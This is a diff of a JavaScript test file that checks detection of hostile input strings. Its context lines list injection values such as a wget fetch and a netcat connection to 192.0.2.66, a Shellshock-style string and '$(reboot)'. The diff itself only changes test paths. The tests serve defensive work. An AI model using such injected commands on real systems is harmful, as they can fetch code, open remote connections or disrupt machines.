@@ -81,7 +81,7 @@ describe('text for a shell, a path, a browser, a logger', () => {
       'a`id`',
       'x; wget http://192.0.2.66/a',
       'x | nc 192.0.2.66 4444',
-      'x && cat /tmp/a',
+      'x && cat /srv/a',
       '() { :;}; x',
       '$(reboot)',
       'x;sh;',
@@ -124,7 +124,7 @@ describe('text for a shell, a path, a browser, a logger', () => {
     ])
       assert.deepEqual(inAgent(agent), [], agent);
     assert.deepEqual(hostile('X-Braces', '{a} | ~b'), []);
-    assert.deepEqual(hostile('Subject', '/home/../x'), []);
+    assert.deepEqual(hostile('Subject', '/srv/../x'), []);
   });
 });
 
